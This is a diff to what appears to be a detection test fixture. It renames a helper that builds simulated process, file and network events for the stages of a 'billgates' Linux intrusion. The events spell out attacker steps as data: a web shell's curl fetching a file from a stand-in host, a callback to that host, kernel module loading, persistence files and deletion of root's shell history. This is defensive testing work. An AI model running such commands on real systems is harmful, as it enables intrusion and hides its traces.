@@ -30,7 +30,7 @@ class Step:
         )
 
 
-def _exec(executable: str, *args: str, parent: str = "/bin/bash", **more: Any) -> dict[str, Any]:
+def _started(executable: str, *args: str, parent: str = "/bin/bash", **more: Any) -> dict[str, Any]:
     words = (executable, *args)
     return {
         "event.action": "process.exec",
@@ -71,9 +71,9 @@ def _connect(executable: str, ip: str, port: int) -> dict[str, Any]:
 _WEB = {"user.name": "www-data", "user.id": 33}
 _DROPPER = "/tmp/breeb"  # noqa: S108  a name in an event
 STEPS = (
-    Step("billgates", "a dropper in /tmp is run by root", (_exec(_DROPPER),)),
-    Step("billgates", "the dropper is made unchangeable", (_exec("/usr/bin/chattr", "+i", _DROPPER),)),
-    Step("billgates", "a kernel module is loaded", (_exec("/usr/sbin/insmod", "/usr/lib/xpacket.ko"),)),
+    Step("billgates", "a dropper in /tmp is run by root", (_started(_DROPPER),)),
+    Step("billgates", "the dropper is made unchangeable", (_started("/usr/bin/chattr", "+i", _DROPPER),)),
+    Step("billgates", "a kernel module is loaded", (_started("/usr/sbin/insmod", "/usr/lib/xpacket.ko"),)),
     Step("billgates", "an init script is written", (_file("file.create", "/etc/init.d/DbSecuritySpt", _DROPPER),)),
     Step("billgates", "a false getty is put in place", (_file("file.create", "/usr/bin/bsd-port/getty", _DROPPER),)),
     Step("billgates", "a system tool is replaced", (_file("file.modify", "/bin/netstat", "/usr/bin/cp"),)),
@@ -84,8 +84,8 @@ STEPS = (
         (_file("file.create", "/var/log/wtmp", _DROPPER, **{"file.target_path": "/dev/null", "file.type": "symlink"}),),
     ),
     Step("billgates", "the false getty calls home", (_connect("/usr/bin/bsd-port/getty", "203.0.113.9", 36000),)),
-    Step("billgates", "a web page runs a shell", (_exec("/bin/sh", "-c", "id", parent="/usr/sbin/apache2", **_WEB),)),
-    Step("billgates", "the web shell fetches a file", (_exec("/usr/bin/curl", "-s", "http://203.0.113.9/x", parent="/bin/sh", **_WEB),)),
-    Step("billgates", "the history is cleared", (_exec("/usr/bin/rm", "-f", "/root/.bash_history"),)),
+    Step("billgates", "a web page runs a shell", (_started("/bin/sh", "-c", "id", parent="/usr/sbin/apache2", **_WEB),)),
+    Step("billgates", "the web shell fetches a file", (_started("/usr/bin/curl", "-s", "http://203.0.113.9/x", parent="/bin/sh", **_WEB),)),
+    Step("billgates", "the history is cleared", (_started("/usr/bin/rm", "-f", "/root/.bash_history"),)),
 )
 """Every step, in the order it is done."""
